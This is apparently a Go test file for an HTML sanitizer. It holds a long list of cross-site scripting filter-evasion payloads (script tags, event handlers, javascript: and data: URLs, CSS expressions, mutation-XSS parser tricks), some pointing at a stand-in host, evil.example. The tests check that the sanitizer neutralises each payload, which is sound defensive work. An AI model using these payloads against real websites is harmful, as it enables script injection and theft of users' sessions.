package sanitize_test

import (
	"strings"
	"testing"

	"restante/serve/web/sanitize"
)

// evasions are the ways past filters that OWASP's page on filter evasion and
// the papers on mXSS tell of, each in our own words.
var evasions = []string{
	// Scripts, plainly and in disguise.
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<<SCRIPT>alert(1);//\<</SCRIPT>`, `<script/xss src=x></script>`,
	`<script/src=x>`, `<script>a`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script
src=x>`, `</script><script>alert(1)</script>`, `<s cript>alert(1)</script>`, "<scri\x00pt>alert(1)</scri\x00pt>", `<script><!--<script>--></script>alert(1)//`,
	`</title><script>alert(1)</script>`, `<title><img src=x onerror=alert(1)></title>`, `</textarea><script>alert(1)</script>`,
	// Handlers.
	`<img src=x onerror=alert(1)>`, `<img src=x:x onerror=alert(1)//`, `<img/src="x"/onerror=alert(1)>`, `<img """><script>alert(1)</script>">`,
	`<img src=x onerror="&#0000106&#0000097alert(1)">`, `<img onmouseover="alert(1)">`, `<body onload=alert(1)>`, `<body onload!#$%&()*~+-_.,:;?@[/|\]^=alert(1)>`,
	`<p/onclick=alert(1)>x`, `<p onclick
=alert(1)>`, `<div style="a" onfocus=alert(1) tabindex=1 autofocus>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<a onmouseover=alert(document.cookie)>x</a>`, `<br size="&{alert('XSS')}">`,
	// Addresses.
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" &#14;  javascript:alert(1)">x</a>`, "<a href=\"jav\tascript:alert(1)\">x</a>",
	`<a href="jav&#x09;ascript:alert(1)">x</a>`, `<a href="jav&#x0A;ascript:alert(1)">x</a>`, "<a href=\"java\x00script:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="javascript&colon;alert(1)">x</a>`, `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="data:image/png;base64,AAAA">x</a>`, `<a href="livescript:x">`, `<a href="view-source:javascript:x">`, `<a href="feed:javascript:x">`,
	`<a href="http://good.example@evil.example/">x</a>`, `<a href="http://good.example\@evil.example/">x</a>`, `<a href="https:\\evil.example">x</a>`, `<a href="///evil.example">x</a>`,
	`<a href="/settings">x</a>`, `<a href="#top">x</a>`, `<a href="?delete=1">x</a>`, `<a href="">x</a>`, `<a href="http:">x</a>`, `<a href="http:javascript:alert(1)">`, `<a href="ftp://x.example/">x</a>`,
	`<img src="javascript:alert(1)">`, `<img src=" &#14; javascript:alert(1);">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src="data:image/png,<svg onload=alert(1)>">`,
	`<img dynsrc="javascript:alert(1)">`, `<img lowsrc="javascript:alert(1)">`, `<input type=image src="javascript:alert(1)">`, `<bgsound src="javascript:alert(1)">`, `<table background="javascript:alert(1)">`,
	`<td background="javascript:alert(1)">`, `<link rel=stylesheet href="javascript:alert(1)">`, `<base href="javascript:alert(1);//">`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<meta http-equiv="Set-Cookie" content="USERID=x">`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object type=text/x-scriptlet data=http://evil.example/></object>`, `<object classid=clsid:ae24fdae><param name=url value=javascript:alert(1)></object>`, `<embed src="data:image/svg+xml;base64,PHN2Zz4=" AllowScriptAccess=always>`,
	`<form action="javascript:alert(1)"><input type=submit></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<isindex action=javascript:alert(1) type=image>`, `<area href="javascript:alert(1)">`,
	`<a xlink:href="javascript:alert(1)">x</a>`, `<a ping=http://evil.example/ href=http://x.example/>x</a>`, `<a download href=http://x.example/ target=_self rel=opener>x</a>`,
	// Styles.
	`<div style="background-image: url(javascript:alert(1))">`, `<div style="background-image:\0075\0072\006C\0028'\006a\0061'">`, `<div style="width: expression(alert(1));">`,
	`<div style="xss:expr/*XSS*/ession(alert(1))">`, `<p style="behavior: url(xss.htc);">`, `<p style="-moz-binding:url(http://evil.example/xss.xml#x)">`, `<p style="color:red;position:fixed;top:0;left:0;width:100%">x`,
	`<p style="position:/**/absolute">x`, `<p style="pos\69tion:fixed">x`, `<p style="z-index:9999;transform:scale(99)">x`, `<p style="color:red}body{display:none">x`, `<p style="margin:-9999px">x`, `<p style="margin-top:calc(0px - 100px)">x`,
	`<p style="--x:url(//evil.example);background:var(--x)">`, `<p style="color:&quot;red&quot;;&lt;/style>&lt;script>">`, `<p style="font-family:'</p><script>alert(1)</script>'">`, `<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example')">`,
	`<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x`, `<style type=text/javascript>alert(1)</style>`, `<style>@im\port'\ja\vasc\ript:alert(1)';</style>`, `<xss style="behavior: url(x)">`,
	`<p style='background:url("http://x.example/\")");color:red'>`, `<p style="background:url(http://x.example/a&quot;);color:red">`,
	// What reads one way here and another way there.
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><p><style><g title="</style><img src onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`, `<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></foreignObject></svg>`,
	`<svg><desc><style><img src=x onerror=alert(1)></desc></svg>`, `<svg><title><style><img src=x onerror=alert(1)></title></svg>`, `<svg><script>alert&#40;1)</script>`, `<svg/onload=alert(1)>`, `<svg><animate onbegin=alert(1)>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><set attributeName=href to=javascript:alert(1)></svg>`, `<svg><use href="data:image/svg+xml,x#a"/></svg>`, `<math><a xlink:href=javascript:alert(1)>x`,
	`<template><script>alert(1)</script></template>`, `<template><style></template><img src=x onerror=alert(1)></style>`, `<select><style></select><img src=x onerror=alert(1)></style>`, `<select><template><img src=x onerror=alert(1)>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`, `<noframes><p title="</noframes><img src=x onerror=alert(1)>">`,
	`<iframe><p title="</iframe><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<listing>&lt;img src=x onerror=alert(1)></listing>`, `<!--><img src=x onerror=alert(1)>-->`, `<!---><img src=x onerror=alert(1)>-->`,
	`<!-- --!><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!-- <!-- --><img src=x onerror=alert(1)>`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
	`<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>`, `<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML">`, `<!DOCTYPE html [<!ENTITY x "<script>">]>&x;`, `<!ELEMENT <img src=x onerror=alert(1)>`,
	`<table><td><form></table><img src=x onerror=alert(1)>`, `<table><a href="javascript:alert(1)"><tr><td>x`, `<a><table><a href=javascript:alert(1)></table></a>`, `<b><p><b><p><b></b></p>`, `<p><svg><p>x`, `<p title="` + "`" + `onmouseover=alert(1)">`,
	`<img src="x` + "`" + ` onerror=alert(1)">`, `<img alt="&quot;onerror=alert(1)//" src=x>`, `<p title='"><img src=x onerror=alert(1)>'>`, `<p title="&amp;lt;script>">`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;img src=x&amp;gt;`, `+ADw-script+AD4-alert(1)`,
	"\u003cscript\u003e", "<\u017fcript>alert(1)</\u017fcript>", "<scr\u0130pt>alert(1)</scr\u0130pt>", "\xbcscript\xbealert(1)\xbc/script\xbe", "<p title=\"\xe3\">x</p><p title=\" onmouseover=alert(1) \">",
	`<img src=x id=__proto__ name=getElementById>`, `<form id=document><input name=cookie>`, `<a id=x name=y class=hide>x</a>`, `<div is=x-y slot=a part=b itemscope contenteditable draggable>x</div>`,
	`<meta charset=utf-7>`, `<html xmlns:x="urn:x" onload=alert(1)><body bgcolor="red;background:url(//evil.example)" text="expression(1)">x`, `<font color="red;x:url(//evil.example)" face="x;y" size=99999999999>x`,
	`<img width="99999999999" height="1e9" src=x>`, `<td colspan=99999999999999999999>x`, `<ol start=99999999999999><li>x`,
}

func TestClean_StopsEveryKnownEvasion(t *testing.T) {
	for _, in := range evasions {
		for _, wrapped := range []string{in, "<table><tr><td>" + in, "<p title=\"" + in + "\">" + in, "<svg>" + in + "</svg>" + in, "<pre>" + in + "</pre>"} {
			sound(t, wrapped, sanitize.Options{})
			sound(t, wrapped, loadAll)
		}
	}
}

func TestClean_KeepsTheWordsAroundAnEvasion(t *testing.T) {
	for _, in := range []string{`<a href="javascript:alert(1)">`, `<p style="position:fixed">`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<object data=x>`, `<svg/onload=alert(1)></svg>`} {
		if got := sanitize.Clean("before "+in+" within </a></p></object> after", sanitize.Options{}); !strings.Contains(got.HTML, "before ") || !strings.Contains(got.HTML, " after") || got.Cut {
			t.Errorf("%s: %+v", in, got)
		}
	}
}
